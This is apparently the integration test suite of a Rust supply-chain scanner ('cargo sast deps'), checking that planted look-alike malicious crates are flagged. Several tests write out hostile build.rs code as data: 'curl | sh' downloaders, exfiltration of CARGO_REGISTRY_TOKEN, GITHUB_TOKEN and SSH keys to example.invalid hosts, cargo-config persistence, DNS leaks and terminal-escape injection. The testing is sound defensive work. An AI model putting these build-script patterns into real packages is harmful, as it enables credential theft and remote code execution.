//! `cargo sast deps` end to end, on the inert look-alikes of
//! `testdata/workspaces/deps` (see its README): every published attack pattern is
//! reported critical or high with its reason, an ordinary `-sys` build
//! script is quiet, the lock-file diff shows exactly what was gained, the
//! policy approves and asks again, and nothing is built or fetched.

use std::path::{Path, PathBuf};

use crate::common::*;
use serde_json::Value;

const INDEX: &str = "registry/src/index.crates.io-0000000000000000";

/// A copy of the fixture (workspace and cargo home) outside the repository.
fn fixture() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&root().join("testdata/workspaces/deps"), dir.path());
    dir
}

fn deps(dir: &Path, args: &[&str]) -> std::process::Output {
    sast().current_dir(dir.join("ws")).env("CARGO_HOME", dir.join("home")).arg("deps").args(args).output().unwrap()
}

fn findings(j: &Value) -> Vec<&Value> {
    j["findings"].as_array().unwrap().iter().collect()
}

/// (rule, severity, message) of a crate's unsuppressed findings.
fn of(j: &Value, krate: &str) -> Vec<(String, String, String)> {
    let mut v: Vec<(String, String, String)> = findings(j)
        .into_iter()
        .filter(|f| f["properties"]["crate"] == krate && f["suppression"].is_null())
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                f["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

fn has(list: &[(String, String, String)], rule: &str, severity: &str, needle: &str) -> bool {
    list.iter().any(|(r, s, m)| r == rule && s == severity && m.contains(needle))
}

fn package<'a>(j: &'a Value, name: &str, version: &str) -> &'a Value {
    j["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name && p["version"] == version)
        .unwrap_or_else(|| panic!("no package {name} {version}: {j:#}"))
}

fn caps(p: &Value) -> Vec<String> {
    p["capabilities"].as_object().unwrap().keys().cloned().collect()
}

#[test]
fn attack_look_alikes_are_critical_or_high_with_the_reason() {
    let d = fixture();
    let o = deps(d.path(), &["-f", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let j = json(&o);

    // The split-base64 downloader build script of the `proc-macro1` typosquat.
    let pm = of(&j, "proc-macro1");
    assert!(has(&pm, "deps-typosquat", "high", "`proc-macro2`"), "{pm:#?}");
    assert!(has(&pm, "deps-obfuscated-payload", "critical", "https://example.invalid/payload"), "{pm:#?}");
    assert!(has(&pm, "deps-obfuscated-payload", "critical", "base64"), "{pm:#?}");
    assert!(has(&pm, "deps-build-tls-disabled", "high", "danger_accept_invalid_certs"), "{pm:#?}");
    assert!(has(&pm, "deps-build-network", "high", "reqwest::blocking::Client::builder"), "{pm:#?}");
    assert!(has(&pm, "deps-build-download-exec", "critical", "marks a file executable"), "{pm:#?}");
    assert!(has(&pm, "deps-build-download-exec", "critical", "downloads and runs a program"), "{pm:#?}");

    // The same build script in a crate named `cc`: no allow-list by name.
    let cc = of(&j, "cc");
    let rules = |l: &[(String, String, String)]| {
        let mut r: Vec<(String, String)> = l.iter().map(|(a, b, _)| (a.clone(), b.clone())).collect();
        r.retain(|(a, _)| a != "deps-typosquat");
        r
    };
    assert_eq!(rules(&cc), rules(&pm), "the downloader must fire the same in a crate named cc");

    // A proc macro that reads the registry token and an SSH key and posts them.
    let tp = of(&j, "tokenpost-derive");
    assert!(has(&tp, "deps-build-secret-read", "critical", "CARGO_REGISTRY_TOKEN"), "{tp:#?}");
    assert!(has(&tp, "deps-build-secret-read", "critical", ".ssh/id_ed25519"), "{tp:#?}");
    assert!(has(&tp, "deps-build-network", "high", "collector.example.invalid:443"), "{tp:#?}");
    assert!(tp.iter().all(|(_, _, m)| m.contains("the proc macro of `tokenpost-derive 0.1.0`")), "{tp:#?}");

    // An ELF embedded with include_bytes! (a data table next to it is not).
    let bl = of(&j, "blobby");
    assert_eq!(bl.len(), 1, "{bl:#?}");
    assert!(has(&bl, "deps-executable-blob", "high", "an ELF executable"), "{bl:#?}");
    assert!(bl[0].2.contains("assets/helper.bin"), "{bl:#?}");
    assert_eq!(caps(package(&j, "blobby", "0.2.0")), ["blob"]);

    // A name one edit from `tokio`, with harmless code.
    assert_eq!(
        of(&j, "tokioo"),
        [(
            "deps-typosquat".into(),
            "high".into(),
            "`tokioo` (1.0.0) is one edit from the well-known crate `tokio`: a typosquatting candidate".into()
        )]
    );

    // An ordinary -sys build script is quiet, but its capabilities are listed.
    assert_eq!(of(&j, "goodsys"), []);
    let good = package(&j, "goodsys", "0.1.0");
    assert_eq!(caps(good), ["build:env", "build:fs", "build:process", "ffi"]);
    assert_eq!(good["build_script"], "build.rs");
    assert_eq!(good["capabilities"]["ffi"]["uses"], 2, "links = \"z\" and cargo:rustc-link-lib=z");
    assert_eq!(package(&j, "tokenpost-derive", "0.1.0")["proc_macro"], true);

    // Every finding names crate, version, file and line, and no path is absolute.
    for f in findings(&j) {
        assert!(f["properties"]["crate"].is_string() && f["properties"]["version"].is_string(), "{f:#}");
        let path = f["location"]["path"].as_str().unwrap();
        assert!(
            path == "Cargo.lock" || path.starts_with("%CARGO_REGISTRY%/index.crates.io-0000000000000000/"),
            "{path}"
        );
        assert!(f["location"]["start"]["line"].as_u64().unwrap() > 0);
    }
    assert_eq!(j["summary"]["critical"], 8, "{:#}", j["summary"]);
}

#[test]
fn sarif_is_valid_and_relative_to_a_cargo_registry_base() {
    let d = fixture();
    let o = deps(d.path(), &["-f", "sarif"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(!text.contains(&d.path().join("home").display().to_string()), "a machine path leaked into SARIF");
    let sarif: Value = serde_json::from_str(&text).unwrap();
    assert_sarif_schema_valid(&sarif);
    let run = &sarif["runs"][0];
    assert!(
        run["originalUriBaseIds"]["%CARGO_REGISTRY%"]["description"]["text"].as_str().unwrap().contains("registry/src")
    );
    let r = run["results"].as_array().unwrap().iter().find(|r| r["ruleId"] == "deps-executable-blob").unwrap();
    let loc = &r["locations"][0]["physicalLocation"];
    assert_eq!(loc["artifactLocation"]["uriBaseId"], "%CARGO_REGISTRY%");
    assert_eq!(loc["artifactLocation"]["uri"], "index.crates.io-0000000000000000/blobby-0.2.0/src/lib.rs");
    assert_eq!(loc["region"]["startLine"], 6);
    let rule_ids: Vec<&str> =
        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert!(rule_ids.contains(&"deps-build-download-exec") && rule_ids.contains(&"deps-typosquat"), "{rule_ids:?}");
}

#[test]
fn human_github_and_gitlab_formats() {
    let d = fixture();
    let o = deps(d.path(), &[]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    let row = |name: &str| out.lines().find(|l| l.starts_with(name)).unwrap_or_else(|| panic!("no row {name}:\n{out}"));
    assert!(row("goodsys").contains("script: fs,process,env"), "{out}");
    assert!(
        row("tokenpost-derive").contains("proc-macro: fs,net,env") && row("tokenpost-derive").contains("2 critical"),
        "{out}"
    );
    assert!(out.contains("error[deps-build-download-exec]"), "{out}");
    assert!(out.contains("%CARGO_REGISTRY% = "), "the legend says where the base is:\n{out}");
    let gh = stdout(&deps(d.path(), &["-f", "github"]));
    assert!(
        gh.lines().any(|l| l.starts_with("::error file=%25CARGO_REGISTRY%25/") && l.contains("deps-build-secret-read")),
        "{gh}"
    );
    let gl: Value = serde_json::from_str(&stdout(&deps(d.path(), &["-f", "gitlab"]))).unwrap();
    assert_eq!(gl["vulnerabilities"].as_array().unwrap().len(), 17);
    let q = stdout(&deps(d.path(), &["-q"]));
    assert!(!q.contains("PACKAGE") && q.contains("deps-typosquat"), "{q}");
}

fn git(dir: &Path, args: &[&str]) {
    let o = std::process::Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "commit.gpgsign=false"])
        .args(args)
        .output()
        .unwrap();
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
}

fn lock(pkgs: &[(&str, &str)]) -> String {
    let mut s = "version = 4\n\n[[package]]\nname = \"deps-fixture\"\nversion = \"0.1.0\"\n".to_string();
    for (n, v) in pkgs {
        s.push_str(&format!(
            "\n[[package]]\nname = \"{n}\"\nversion = \"{v}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
        ));
    }
    s
}

/// A repository whose base commit locks `base` and whose work tree locks `now`.
fn repo(base: &[(&str, &str)], now: &[(&str, &str)], base_config: Option<&str>) -> tempfile::TempDir {
    let d = fixture();
    let ws = d.path().join("ws");
    std::fs::write(ws.join("Cargo.lock"), lock(base)).unwrap();
    if let Some(c) = base_config {
        std::fs::write(ws.join("sast.toml"), c).unwrap();
    }
    git(&ws, &["init", "-q"]);
    git(&ws, &["add", "."]);
    git(&ws, &["commit", "-q", "-m", "base"]);
    std::fs::write(ws.join("Cargo.lock"), lock(now)).unwrap();
    d
}

#[test]
fn lock_file_diff_reports_exactly_what_was_gained() {
    let d = repo(
        &[("blobby", "0.2.0"), ("goodsys", "0.1.0")],
        &[("blobby", "0.2.0"), ("goodsys", "0.2.0"), ("tokioo", "1.0.0"), ("proc-macro1", "1.0.99")],
        None,
    );
    let o = deps(d.path(), &["--diff", "HEAD", "-f", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let j = json(&o);
    let rows: Vec<(String, String, Value, Vec<String>)> = j["diff"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["name"].as_str().unwrap().into(),
                c["version"].as_str().unwrap().into(),
                c["from"].clone(),
                c["gained"].as_array().unwrap().iter().map(|g| g.as_str().unwrap().to_string()).collect(),
            )
        })
        .collect();
    assert_eq!(rows.len(), 3, "{rows:#?}");
    // goodsys 0.1.0 → 0.2.0 gains network access at build time and unsafe code: nothing else.
    assert_eq!(
        rows[0],
        ("goodsys".into(), "0.2.0".into(), Value::from("0.1.0"), vec!["`unsafe`".into(), "`build:net`".into()])
    );
    assert_eq!(rows[1].0, "tokioo");
    assert_eq!(rows[1].2, Value::Null);
    assert!(rows[1].3.is_empty(), "{rows:#?}");
    assert_eq!(rows[2].0, "proc-macro1");
    assert_eq!(rows[2].3[0], "a build script");

    let gained: Vec<&Value> = findings(&j).into_iter().filter(|f| f["rule"] == "deps-gained-capability").collect();
    assert_eq!(gained.len(), 2, "{gained:#?}");
    let g = gained.iter().find(|f| f["properties"]["crate"] == "goodsys").unwrap();
    assert_eq!(g["properties"]["gained"], serde_json::json!(["unsafe", "build:net"]));
    assert_eq!(g["severity"], "high");
    assert_eq!(g["message"], "`goodsys` 0.1.0 → 0.2.0 gains `unsafe`, `build:net`");
    assert_eq!(g["location"]["path"], "Cargo.lock");
    // The new download is reported; what did not change (blobby's ELF) is not.
    let good = of(&j, "goodsys");
    assert!(has(&good, "deps-build-network", "high", "ureq::get"), "{good:#?}");
    assert_eq!(of(&j, "blobby"), []);
    assert!(has(&of(&j, "tokioo"), "deps-typosquat", "high", "tokio"));
    assert!(has(&of(&j, "proc-macro1"), "deps-build-download-exec", "critical", ""));
}

#[test]
fn diff_reads_the_policy_from_the_base_so_a_change_cannot_approve_itself() {
    let d = repo(&[("goodsys", "0.1.0")], &[("goodsys", "0.1.0"), ("tokioo", "1.0.0")], Some("[deps.allow]\n"));
    let ws = d.path().join("ws");
    // The change approves what it adds, in the same commit, and declares it well-known: ignored.
    std::fs::write(
        ws.join("sast.toml"),
        "[deps]\nwell-known-crates = [\"tokioo\"]\n[deps.allow]\ntokioo = { version = \"1.0.0\", capabilities = [], evidence = \"sha256:00\", reason = \"trust me\" }\n",
    )
    .unwrap();
    let now = json(&deps(d.path(), &["-f", "json"]));
    assert_eq!(of(&now, "tokioo"), [], "without --diff the config in force applies");
    let o = deps(d.path(), &["--diff", "HEAD", "-f", "json"]);
    let j = json(&o);
    assert!(has(&of(&j, "tokioo"), "deps-typosquat", "high", "tokio"), "{:#}", j["findings"]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn init_writes_the_policy_and_changed_evidence_is_asked_again() {
    let d = fixture();
    let ws = d.path().join("ws");
    std::fs::write(ws.join("sast.toml"), "# ours\nfail-on = \"low\"\n").unwrap();
    let o = deps(d.path(), &["--init"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let cfg = std::fs::read_to_string(ws.join("sast.toml")).unwrap();
    assert!(cfg.starts_with("# ours\nfail-on = \"low\"\n\n[deps.allow]\n"), "{cfg}");
    let line = cfg.lines().find(|l| l.starts_with("goodsys = ")).unwrap();
    assert!(line.contains("version = \"0.1.0\", capabilities = [\"ffi\", \"build:fs\", \"build:process\", \"build:env\"], evidence = \"sha256:"), "{line}");
    assert!(cfg.contains("# review: "), "entries behind critical findings are marked for review:\n{cfg}");

    // Everything is approved now (and kept, with the approval as justification).
    let o = deps(d.path(), &["-f", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let j = json(&o);
    assert_eq!(j["summary"]["findings"], 0, "{:#}", j["findings"]);
    assert_eq!(j["summary"]["suppressed"], 17);

    // A new version that keeps the evidence keeps its approval; new capabilities are asked for.
    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    std::fs::write(
        ws.join("Cargo.lock"),
        lock.replace("name = \"goodsys\"\nversion = \"0.1.0\"", "name = \"goodsys\"\nversion = \"0.2.0\""),
    )
    .unwrap();
    let j = json(&deps(d.path(), &["-f", "json"]));
    let good = of(&j, "goodsys");
    let rules: Vec<(&str, &str)> = good.iter().map(|(r, s, _)| (r.as_str(), s.as_str())).collect();
    assert_eq!(
        rules,
        [("deps-build-network", "high"), ("deps-unapproved-capability", "high"), ("deps-unapproved-capability", "low")],
        "{good:#?}"
    );
    assert!(good.iter().any(|(_, _, m)| m.contains("`build:net`") && m.contains("is not approved")));

    // Changed evidence behind an approved capability is asked for again.
    let build = d.path().join("home").join(INDEX).join("goodsys-0.2.0/build.rs");
    let text = std::fs::read_to_string(&build).unwrap();
    std::fs::write(&build, text.replace(".arg(\"--version\")", ".arg(\"-vV\")")).unwrap();
    let j = json(&deps(d.path(), &["-f", "json"]));
    let good = of(&j, "goodsys");
    assert!(
        good.iter().any(|(r, _, m)| r == "deps-unapproved-capability"
            && m.contains("`build:process`")
            && m.contains("its evidence changed")),
        "{good:#?}"
    );
}

#[test]
fn missing_sources_are_named_with_the_command_that_fetches_them() {
    let d = fixture();
    let ws = d.path().join("ws");
    let mut lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    lock.push_str("\n[[package]]\nname = \"serde_jsn\"\nversion = \"9.9.9\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n");
    std::fs::write(ws.join("Cargo.lock"), lock).unwrap();
    let j = json(&deps(d.path(), &["-f", "json"]));
    let note =
        j["notifications"].as_array().unwrap().iter().find(|n| n["kind"] == "dependency-sources-missing").unwrap();
    assert!(
        note["message"].as_str().unwrap().contains("serde_jsn 9.9.9")
            && note["message"].as_str().unwrap().contains("cargo fetch")
    );
    // Its name alone is still checked.
    assert!(has(&of(&j, "serde_jsn"), "deps-typosquat", "high", "`serde-json`"));
    assert_eq!(j["missing"], serde_json::json!(["serde_jsn 9.9.9"]));
}

#[test]
fn a_vendor_directory_works_like_the_registry() {
    let d = fixture();
    let vendor: PathBuf = d.path().join("home").join(INDEX);
    let o = sast()
        .current_dir(d.path().join("ws"))
        .env("CARGO_HOME", NO_CARGO_HOME)
        .args(["deps", "-f", "json", "--vendor"])
        .arg(&vendor)
        .output()
        .unwrap();
    let j = json(&o);
    assert!(has(&of(&j, "cc"), "deps-build-download-exec", "critical", ""), "{:#}", j);
    let p = package(&j, "blobby", "0.2.0");
    assert_eq!(p["path"], "%CARGO_VENDOR%/blobby-0.2.0");
}

#[test]
fn hostile_text_is_escaped_and_nothing_outside_the_package_is_read() {
    let d = fixture();
    let pkg = d.path().join("home").join(INDEX).join("evil-term-0.1.0");
    write_files(
        &pkg,
        &[
            ("Cargo.toml", "[package]\nname = \"evil-term\"\nversion = \"0.1.0\"\n"),
            (
                "build.rs",
                "fn main() { std::process::Command::new(\"\\u{1b}]0;pwned\\u{7}\\u{1b}[2Jcurl\").arg(\"https://example.invalid\").status().ok(); }\n",
            ),
            // A module outside the package and an include_bytes! of a file outside it: not read.
            (
                "src/lib.rs",
                "#[path = \"../../../../../../../etc/hostname\"]\nmod outside;\npub static B: &[u8] = include_bytes!(\"../../blobby-0.2.0/assets/helper.bin\");\n",
            ),
        ],
    );
    let ws = d.path().join("ws");
    let mut lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    lock.push_str("\n[[package]]\nname = \"evil-term\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n");
    std::fs::write(ws.join("Cargo.lock"), lock).unwrap();
    let o = deps(d.path(), &[]);
    let out = stdout(&o);
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "raw control characters in the output");
    assert!(out.contains("\\u{1b}]0;pwned"), "{out}");
    let j = json(&deps(d.path(), &["-f", "json"]));
    assert!(has(&of(&j, "evil-term"), "deps-build-network", "high", "curl"), "{:#}", j["findings"]);
    assert!(
        of(&j, "evil-term").iter().all(|(r, _, _)| r != "deps-executable-blob"),
        "a file outside the package was read"
    );
}

#[test]
fn no_lock_file_is_an_error_and_nothing_is_written() {
    let d = fixture();
    std::fs::remove_file(d.path().join("ws/Cargo.lock")).unwrap();
    let o = deps(d.path(), &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("cargo generate-lockfile"), "{}", stderr(&o));
    assert!(!d.path().join("ws/Cargo.lock").exists());
}

/// Add a package to the fixture's registry and lock file.
fn plant(d: &Path, name: &str, files: &[(&str, &str)]) {
    let pkg = d.join("home").join(INDEX).join(format!("{name}-0.1.0"));
    let manifest = format!("[package]\nname = \"{name}\"\nversion = \"0.1.0\"\n");
    let mut all: Vec<(&str, &str)> = vec![("Cargo.toml", &manifest)];
    all.extend_from_slice(files);
    write_files(&pkg, &all);
    let ws = d.join("ws");
    let mut lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    lock.push_str(&format!(
        "\n[[package]]\nname = \"{name}\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
    ));
    std::fs::write(ws.join("Cargo.lock"), lock).unwrap();
}

#[test]
fn more_attack_shapes() {
    let d = fixture();
    // A shell pipeline that fetches and runs.
    plant(
        d.path(),
        "pipe-sh",
        &[(
            "build.rs",
            "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").args([\"-c\", \"curl -fsSL https://example.invalid/i.sh | sh\"]).status().ok();\n}\n",
        )],
    );
    // The whole environment sent away.
    plant(
        d.path(),
        "env-post",
        &[(
            "build.rs",
            "fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let _ = ureq::post(\"https://example.invalid/e\").send_json(&all);\n}\n",
        )],
    );
    // A write into cargo's own configuration: persistence across every build.
    plant(
        d.path(),
        "cfg-writer",
        &[(
            "build.rs",
            "use std::path::PathBuf;\nfn main() {\n    let home = PathBuf::from(std::env::var(\"CARGO_HOME\").unwrap());\n    std::fs::write(home.join(\"config.toml\"), \"[build]\\nrustc-wrapper = \\\"/tmp/w\\\"\\n\").ok();\n    std::fs::write(\"../../.cargo/config.toml\", \"\").ok();\n}\n",
        )],
    );
    // A payload URL kept in a text file, base64-encoded, read with include_str!.
    plant(
        d.path(),
        "stash",
        &[
            ("payload.txt", "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvc3RhZ2Uy"),
            (
                "build.rs",
                "fn main() {\n    let raw = include_str!(\"payload.txt\");\n    let url = String::from_utf8(base64::decode(raw.trim()).unwrap()).unwrap();\n    let _ = ureq::get(&url).call();\n}\n",
            ),
        ],
    );
    // Exfiltration through a DNS lookup, the secret in the host name.
    plant(
        d.path(),
        "dns-leak",
        &[(
            "build.rs",
            "use std::net::ToSocketAddrs;\nfn main() {\n    let t = std::env::var(\"GITHUB_TOKEN\").unwrap_or_default();\n    let _ = format!(\"{t}.example.invalid:53\").to_socket_addrs();\n}\n",
        )],
    );
    let j = json(&deps(d.path(), &["-f", "json"]));
    assert!(
        has(&of(&j, "pipe-sh"), "deps-build-download-exec", "critical", "curl -fsSL https://example.invalid/i.sh | sh"),
        "{:#?}",
        of(&j, "pipe-sh")
    );
    assert!(
        has(&of(&j, "env-post"), "deps-build-secret-read", "critical", "every environment variable"),
        "{:#?}",
        of(&j, "env-post")
    );
    let cw = of(&j, "cfg-writer");
    assert!(has(&cw, "deps-build-fs-write", "high", "the home directory"), "{cw:#?}");
    assert!(has(&cw, "deps-build-fs-write", "high", ".cargo/config.toml"), "{cw:#?}");
    assert!(
        has(&of(&j, "stash"), "deps-obfuscated-payload", "critical", "https://example.invalid/stage2"),
        "{:#?}",
        of(&j, "stash")
    );
    assert!(
        has(&of(&j, "dns-leak"), "deps-build-secret-read", "critical", "GITHUB_TOKEN"),
        "{:#?}",
        of(&j, "dns-leak")
    );
}
